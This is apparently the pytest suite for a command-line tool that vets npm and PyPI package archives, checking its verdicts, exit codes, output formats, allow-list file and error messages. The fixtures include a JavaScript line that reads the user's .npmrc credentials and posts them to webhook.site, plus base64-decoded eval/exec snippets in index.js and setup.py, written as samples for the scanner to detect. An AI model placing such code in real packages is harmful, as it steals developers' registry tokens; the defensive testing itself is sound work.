"""`clew vet` as a user runs it: verdicts, exit codes, forms, and errors that say what to do."""

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from vetting.made import npm_tarball, sdist

STEALER = "const s = require('fs').readFileSync(home + '/.npmrc');\nrequire('https').request('https://webhook.site/x').end(s);\n"
HIDDEN = "eval(atob('YWxlcnQoMSk='))\n"


def test_a_plain_package_is_allowed(clew: Any) -> None:
    npm_tarball(Path("demo.tgz"))
    ran = clew("vet", "npm", "demo.tgz")
    assert ran.code == 0
    assert ran.out.startswith(" allow  demo 1.0.0  npm, sha256 ")
    assert "no advisories: give OSV records with --osv" in ran.out


@pytest.mark.parametrize(
    ("code", "fail_on", "exit_code"),
    [
        (STEALER, "block", 1),
        (STEALER, "never", 0),
        (HIDDEN, "block", 0),
        (HIDDEN, "review", 1),
        ("", "review", 0),
    ],
)
def test_the_exit_code_says_what_was_reached(clew: Any, code: str, fail_on: str, exit_code: int) -> None:
    npm_tarball(Path("demo.tgz"), {"index.js": code})
    assert clew("vet", "npm", "demo.tgz", "--fail-on", fail_on).code == exit_code


def test_a_python_package_in_every_form(clew: Any) -> None:
    sdist(Path("demo-1.0.tar.gz"), {"setup.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"})
    shown = clew("vet", "pypi", "demo-1.0.tar.gz")
    assert shown.code == 1
    assert shown.out.startswith(" block  demo 1.0 ")
    assert "setup.py:1" in shown.out
    assert (
        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "json").out)["packages"][0]["verdict"]
        == "block"
    )
    assert json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "sarif").out)["version"] == "2.1.0"
    assert clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "html", "-o", "page.html").out == ""
    assert "demo 1.0: block" in Path("page.html").read_text()


def test_what_was_looked_at_is_allowed_until_its_day(clew: Any) -> None:
    npm_tarball(Path("demo.tgz"), {"index.js": HIDDEN})
    digest = hashlib.sha256(HIDDEN.encode()).hexdigest()
    Path("allow.toml").write_text(
        f'[[allow]]\nrule = "static.runs-decoded"\nsha256 = "{digest}"\nuntil = 2999-01-01\nbecause = "read by us"\n'
    )
    ran = clew("vet", "npm", "demo.tgz", "--fail-on", "review", "--allow", "allow.toml")
    assert (ran.code, ran.out[:7]) == (0, " allow ")
    assert "allowed by you until 2999-01-01: static.runs-decoded (read by us)" in ran.out


@pytest.mark.parametrize(
    ("arguments", "exit_code", "said"),
    [
        (("npm", "none.tgz"), 2, "none.tgz: there is no such file"),
        (("npm", "bad.tgz"), 4, "neither a tar nor a zip archive"),
        (("npm", "demo.tgz", "--allow", "bad.toml"), 3, "bad.toml"),
        (("npm", "demo.tgz", "-o", "none/x.json", "-f", "json"), 2, "none/x.json: cannot be written"),
        (("npm",), 2, ""),
    ],
)
def test_what_is_wrong_is_said(clew: Any, arguments: tuple[str, ...], exit_code: int, said: str) -> None:
    npm_tarball(Path("demo.tgz"))
    Path("bad.tgz").write_text("x")
    Path("bad.toml").write_text("[[allow]]\nrule = 1\n")
    ran = clew("vet", *arguments)
    assert ran.code == exit_code
    assert said in ran.err
